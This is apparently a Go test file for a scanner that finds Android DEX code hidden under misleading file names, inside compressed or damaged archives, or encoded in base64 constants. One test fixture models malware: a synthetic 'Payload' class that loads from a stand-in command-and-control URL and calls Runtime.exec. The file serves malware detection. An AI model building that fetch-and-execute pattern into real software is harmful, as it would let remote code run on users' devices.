package apk

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"quaestor/scanners/internal/dextest"
	"quaestor/scanners/inventory"
	"quaestor/scanners/source"
)

// opened is a file of a name as a source.
func opened(t *testing.T, name string, data []byte) *source.Source {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	src, err := source.Open(source.Target{Path: path}, source.DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { src.Close() })
	return src
}

// TestLoose reads code that is in no app, under any name, and says what goes with none.
func TestLoose(t *testing.T) {
	dex := string(dextest.File{Classes: []dextest.Class{{Name: "org.example.Payload"}}}.Bytes())
	jar := string(zipOf(t, entry{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\n"}, entry{"classes.dex", dex}))
	damaged := withoutDirectory(jar)
	for _, tc := range []struct {
		name, file, data string
		format, base     string // "" where it is not read
		gaps             string
	}{
		{"dex", "payload.dex", dex, "dex", "payload.dex", ""},
		{"dex under another name", "picture.png", dex, "dex", "picture.png", ""},
		{"archive with code", "do.jar", jar, "jar", "do.jar", "blind"},
		{"app without a manifest", "launcher.apk", string(zipOf(t, entry{"classes.dex", dex}, entry{"res/x.xml", "x"})), "jar", "launcher.apk", "blind"},
		{"second code file alone", "x", string(zipOf(t, entry{"classes2.dex", dex})), "zip", "x", "blind"},
		{"without its directory", "do.jar", damaged, "jar", "do.jar", "blind malformed malformed"},
		{"dex in gzip", "payload.dex.gz", gzipped(t, dex), "dex", "payload.dex", ""},
		{"archive in gzip", "do.gz", gzipped(t, jar), "jar", "do", "blind"},
		{"archive in zstd", "do.jar.zst", zstandard(t, jar), "jar", "do.jar", "blind"},
		{"archive without code", "words.zip", string(zipOf(t, entry{"words.txt", "one"})) + "", "", "", ""},
		{"Java archive", "java.jar", string(zipOf(t, entry{"A.class", "\xca\xfe\xba\xbe\x00\x00\x00\x34"})), "", "", ""},
		{"text in gzip", "words.gz", gzipped(t, "one two"), "", "", ""},
		{"archive of texts in gzip", "words.zip.gz", gzipped(t, string(zipOf(t, entry{"words.txt", "one"}))), "", "", ""},
		{"cut gzip", "do.gz", gzipped(t, jar)[:60], "", "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			src := opened(t, tc.file, []byte(tc.data))
			if got := New().Recognise(src); got != (tc.format != "") {
				t.Fatalf("recognised: %v", got)
			}
			if tc.format == "" {
				return
			}
			inv, err := New().Scan(context.Background(), src)
			if err != nil || len(inv.Apps) > 0 || len(inv.Binaries) != 1 {
				t.Fatalf("%v, apps %+v, binaries %+v", err, inv.Apps, inv.Binaries)
			}
			b := inv.Binaries[0]
			if b.Format != tc.format || b.Code == nil || b.Code.Classes != 1 || b.DexFiles != 1 || len(b.Inside) > 0 || !slices.Equal(b.FileNames, []string{tc.base}) {
				t.Errorf("%+v", b)
			}
			var kinds []string
			for _, g := range inv.Gaps {
				kinds = append(kinds, string(g.Kind))
			}
			slices.Sort(kinds)
			if got := strings.Join(kinds, " "); got != tc.gaps {
				t.Errorf("gaps %+v", inv.Gaps)
			}
		})
	}
}

// TestAppInGzip reads an app that is compressed as a whole as the app it is.
func TestAppInGzip(t *testing.T) {
	src := opened(t, "plain.apk.gz", []byte(gzipped(t, string(readFile(t, "testdata/plain.apk")))))
	if !New().Recognise(src) {
		t.Fatal("not recognised")
	}
	inv, err := New().Scan(context.Background(), src)
	if err != nil || len(inv.Apps) != 1 || !strings.HasSuffix(inv.Apps[0].Origins[0].Path, "plain.apk.gz!plain.apk") {
		t.Errorf("%v, %+v", err, inv.Apps)
	}
}

// TestLooseTwice reads code again that was read before, under the name it has now.
func TestLooseTwice(t *testing.T) {
	s := New()
	for _, name := range []string{"first.dex", "second.dex"} {
		inv, err := s.Scan(context.Background(), opened(t, name, []byte(emptyDex(t))))
		if err != nil || len(inv.Binaries) != 1 || !slices.Equal(inv.Binaries[0].FileNames, []string{name}) {
			t.Errorf("%v, %+v", err, inv.Binaries)
		}
	}
}

// TestLooseUnderTwoNames: the facts of a DEX file do not depend on what it is called.
func TestLooseUnderTwoNames(t *testing.T) {
	dex := dextest.File{Classes: []dextest.Class{{Name: "org.example.Payload", Methods: []dextest.Method{{Name: "run", Does: []dextest.Step{dextest.Load("https://c2.example.org/x"), dextest.Call("java.lang.Runtime.exec(Ljava/lang/String;)Ljava/lang/Process;")}}}}}}.Bytes()
	var all []string
	for _, name := range []string{"first.dex", "second.bin"} {
		inv, err := New().Scan(context.Background(), opened(t, name, dex))
		if err != nil || len(inv.Binaries) != 1 {
			t.Fatalf("%v, %+v", err, inv.Binaries)
		}
		b := inv.Binaries[0]
		if len(b.Endpoints) == 0 || len(b.Marks) == 0 || len(b.CodePackages) == 0 {
			t.Errorf("%+v", b)
		}
		b.FileNames, b.Origins = nil, nil
		inv.Binaries[0], inv.Gaps = b, nil
		all = append(all, asJSON(t, inv))
	}
	if all[0] != all[1] {
		t.Errorf("%s\n%s", all[0], all[1])
	}
}

// TestLooseConstant finds code in a constant of code that lies alone.
func TestLooseConstant(t *testing.T) {
	inner := dextest.File{Classes: []dextest.Class{{Name: "org.example.Inner"}}}.Bytes()
	inv, err := New().Scan(context.Background(), opened(t, "x.dex", dextest.File{Strings: []string{base64Of(inner)}}.Bytes()))
	if err != nil || len(inv.Binaries) != 2 {
		t.Fatalf("%v, %+v", err, inv.Binaries)
	}
	marked := slices.ContainsFunc(inv.Binaries, func(b inventory.Binary) bool {
		return slices.ContainsFunc(b.Marks, func(m inventory.Mark) bool { return m.Code == inventory.MarkHiddenCode })
	})
	if !marked {
		t.Error("not marked")
	}
}

// TestKin names a library, and nothing else.
func TestKin(t *testing.T) {
	kin := New().(scanner).Kin
	manifest := entry{"AndroidManifest.xml", `<manifest package="org.example"/>`}
	if what := kin(opened(t, "x.aar", zipOf(t, manifest, entry{"classes.jar", "x"}))); !strings.Contains(what, "AAR") {
		t.Errorf("a library is %q", what)
	}
	for name, data := range map[string][]byte{"app": readFile(t, "testdata/plain.apk"), "text": []byte("text"), "archive": zipOf(t, entry{"a", "b"})} {
		if what := kin(opened(t, name, data)); what != "" {
			t.Errorf("%s is %q", name, what)
		}
	}
}
